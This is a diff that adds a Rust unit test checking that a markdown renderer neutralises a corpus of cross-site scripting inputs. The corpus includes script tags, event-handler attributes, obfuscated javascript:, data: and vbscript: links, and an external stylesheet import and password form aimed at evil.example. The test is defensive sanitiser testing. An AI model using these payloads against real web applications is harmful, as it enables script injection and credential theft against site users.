@@ -92,6 +92,81 @@ mod tests {
     }
 
     #[test]
+    fn nothing_that_people_type_becomes_active() {
+        let corpus = [
+            "<ScRiPt>alert(1)</sCrIpT>",
+            "<<script>alert(1)//<</script>",
+            "<svg><script>alert(1)</script></svg>",
+            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+            "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
+            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+            "<details open ontoggle=alert(1)>",
+            "<a href=\"javascript:alert(1)\">点</a>",
+            "<style>@import 'https://evil.example/x.css';</style>",
+            "<form action=https://evil.example><input name=password></form>",
+            "<p style=\"position:fixed;inset:0\">盖住</p>",
+            "[点](JaVaScRiPt:alert(1))",
+            "[点](java&#10;script:alert(1))",
+            "[点](&#x6A;avascript:alert(1))",
+            "[点](data:text/html;base64,PHNjcmlwdD4=)",
+            "[点](vbscript:msgbox(1))",
+            "[点](//evil.example\" onmouseover=\"alert(1))",
+            "[点](https://a.example \"题\\\" onclick=alert(1) x=\\\"\")",
+            "![x](javascript:alert(1))",
+            "![x](https://evil.example/track.gif)",
+            "<img src=x:alert(alt) onerror=eval(src) alt=0>",
+            "`<img src=x onerror=alert(1)>`",
+            "```<script>\n<script>alert(1)</script>\n```",
+            "| <script>a</script> | b |\n|---|---|\n| <img src=x onerror=1> | c |",
+            "[ref]: javascript:alert(1)\n[点][ref]",
+            "<javascript:alert(1)>",
+            "</div></main><h1>假公告</h1>",
+            "# <b onclick=alert(1)>题</b>",
+        ];
+        let allowed = [
+            "p",
+            "br",
+            "hr",
+            "h3",
+            "h4",
+            "h5",
+            "h6",
+            "strong",
+            "em",
+            "del",
+            "code",
+            "pre",
+            "blockquote",
+            "ul",
+            "ol",
+            "li",
+            "a",
+            "table",
+            "thead",
+            "tbody",
+            "tr",
+            "th",
+            "td",
+        ];
+        for text in corpus {
+            let html = markdown(text);
+            // Every tag that is left is one of ours, with no attribute but these.
+            for tag in html.split('<').skip(1) {
+                let tag = tag.split('>').next().unwrap();
+                let name = tag.trim_start_matches('/').split(' ').next().unwrap().trim_end_matches('/');
+                assert!(allowed.contains(&name), "{text} became {html}");
+                for attribute in tag.split("=\"").collect::<Vec<_>>().iter().rev().skip(1) {
+                    let attribute = attribute.rsplit([' ', '"']).next().unwrap();
+                    assert!(matches!(attribute, "href" | "rel" | "start"), "{text} became {html}");
+                }
+                for scheme in ["javascript:", "data:", "vbscript:"] {
+                    assert!(!tag.to_lowercase().contains(scheme), "{text} became {html}");
+                }
+            }
+        }
+    }
+
+    #[test]
     fn links_do_not_vouch_for_where_they_lead() {
         assert!(markdown("[甲](https://a.example)").contains("rel=\"nofollow noopener ugc\""));
     }
